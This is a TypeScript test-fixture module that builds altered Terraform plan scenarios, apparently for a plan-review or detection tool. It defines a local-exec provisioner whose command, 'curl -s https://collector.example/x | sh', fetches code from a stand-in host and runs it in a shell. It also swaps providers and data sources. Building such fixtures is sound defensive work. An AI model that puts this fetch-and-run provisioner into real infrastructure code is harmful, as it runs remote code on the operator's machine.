import { type Block } from "../../../scenario";
import { add, edited, inner, listIn, read, replaced } from "../../scenario";

export const SERVER = "openstack_compute_instance_v2";
export const COMMAND = "curl -s https://collector.example/x | sh";

/** A block that runs a command on the machine of whoever applies. */
export const RUNS = { provisioner: [{ "local-exec": { command: COMMAND } }] };

/** Another engine's built-in block becomes one of a provider that no registry serves here. */
export const toNull = replaced(
  ["terraform_data", "null_resource"],
  ["terraform.io/builtin/terraform", "registry.terraform.io/hashicorp/null"],
);

/** A data source that is read while applying becomes one of another provider. */
export function dataAs(type: string, provider: string, values: Block): (text: string) => string {
  return edited((plan) => {
    const all = [
      ...listIn(plan, "resource_changes"),
      ...listIn(plan, "configuration", "root_module", "resources"),
    ];
    const found = all.filter((one) => one["type"] === "terraform_remote_state");
    if (found.length < 2) throw new Error("the plan reads no data source while applying");
    for (const one of found) {
      one["type"] = type;
      one["address"] = `data.${type}.${one["name"]}`;
      if (one["change"] !== undefined) {
        one["provider_name"] = `registry.terraform.io/hashicorp/${provider}`;
        inner(one, "change")["after"] = values;
        inner(one, "change")["after_unknown"] = { id: true, result: true };
      } else {
        one["provider_config_key"] = provider;
        one["expressions"] = Object.fromEntries(
          Object.entries(values).map(([name, value]) => [name, { constant_value: value as unknown }]),
        );
      }
    }
    inner(plan, "configuration", "provider_config")[provider] = {
      name: provider,
      full_name: `registry.terraform.io/hashicorp/${provider}`,
    };
  });
}

/** Reads a state elsewhere while applying, since what it depends on is only made then. */
export function readsLater(config: Parameters<typeof read>[0]): void {
  add(config, "openstack_networking_secgroup_v2", "later", { name: "revidr-later" });
  read(config, "terraform_remote_state", "later", {
    backend: "local",
    config: { path: "/nowhere/terraform.tfstate" },
    depends_on: ["openstack_networking_secgroup_v2.later"],
  });
}

/** The engine writes what the provider's block says into its configuration, and a wrong one can't be planned with. */
export function providerSays(values: Block): (text: string) => string {
  return edited((plan) => {
    Object.assign(
      inner(plan, "configuration", "provider_config", "openstack", "expressions"),
      Object.fromEntries(
        Object.entries(values).map(([name, value]) => [name, { constant_value: value as unknown }]),
      ),
    );
  });
}

/** Several are made of that one plan. */
export const LATER = { file: "reads-later", config: readsLater };
